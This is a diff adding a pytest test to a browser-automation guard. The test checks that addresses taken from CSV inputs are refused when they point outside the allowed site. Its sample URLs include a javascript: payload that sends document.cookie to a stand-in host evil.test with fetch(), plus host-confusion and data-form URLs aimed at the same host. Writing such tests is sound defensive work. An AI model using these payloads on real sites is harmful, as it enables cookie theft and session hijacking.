@@ -80,3 +80,20 @@ def test_a_link_with_a_backslash_in_its_path_stays_on_the_site(fake: FakeBackend
     guarded = make_guard(fake, web_policy(), Sinks())
     guarded.click(LINK)
     assert ("click", LINK, "left", 1) in inputs(fake)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript://example.test/%0Afetch('https://evil.test/?c='+document.cookie)",  # runs on the page shown
+        "https://evil.test\\@example.test/",
+        "data://example.test/,<form/action=https://evil.test>",
+    ],
+)
+def test_an_open_step_given_such_an_address_by_its_inputs_is_refused(fake: FakeBackend, url: str) -> None:
+    # `Open {url} in the browser` with the url from a CSV cell: the opener types it into the bar unguarded once
+    # check_launch has judged it, so the judgement must read it as the browser will.
+    guarded = make_guard(fake, web_policy(sites=("example.test",)), Sinks())  # any web scheme, as people write
+    with pytest.raises(PolicyDenied, match="not in this workflow's sites"):
+        guarded.check_launch("chromium", url)
+    guarded.check_launch("chromium", "https://example.test/form")
